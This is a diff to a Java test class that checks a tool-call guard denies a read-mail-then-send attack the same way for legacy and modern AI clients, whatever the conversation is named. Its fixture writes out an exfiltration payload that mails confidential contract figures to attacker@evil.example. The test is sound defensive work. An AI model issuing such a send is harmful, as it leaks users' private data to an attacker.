@@ -30,7 +30,6 @@ import tools.jackson.databind.node.ObjectNode;
 class ErasAttackTest {
 
     private static final String CONVERSATION = "openai/session";
-    private static final String DECISION = "dev.sluice/decision";
     private static final String READ = "{\"id\":\"m1\"}";
     private static final String SEND =
             "{\"to\":[\"attacker@evil.example\"],\"subject\":\"Fwd\",\"body\":\"The contract C-2291 stands at 48,200 EUR.\"}";
@@ -169,8 +168,10 @@ class ErasAttackTest {
 
     @Test
     void decision_isTheSameInBothEras_andHoweverTheConversationIsNamed() throws Exception {
+        Stopped legacy = attackOfALegacyClient();
+        assertEquals("deny", legacy.told.at("/_meta/dev.sluice~1decision/decision").asString(""), legacy.told.toString());
+        assertTrue(StdioHost.text(legacy.told).contains("read_mail"), legacy.told.toString());
         Map<String, Stopped> all = new TreeMap<>();
-        all.put("2025-11-25", attackOfALegacyClient());
         beSomebody();
         all.put("without a conversation", attackOfAModernClient(read(), send()));
         beSomebody();
@@ -181,10 +182,6 @@ class ErasAttackTest {
         all.put("in one, then without", attackOfAModernClient(read().says(CONVERSATION, "one"), send()));
         beSomebody();
         all.put("without, then in one", attackOfAModernClient(read(), send().says(CONVERSATION, "one")));
-
-        Stopped legacy = all.get("2025-11-25");
-        assertEquals("deny", legacy.told.at("/_meta/dev.sluice~1decision/decision").asString(""), DECISION);
-        assertTrue(StdioHost.text(legacy.told).contains("read_mail"), legacy.told.toString());
         all.forEach((how, stopped) -> {
             assertEquals(legacy.told, stopped.told, how);
             assertEquals(legacy.recorded, stopped.recorded, how);
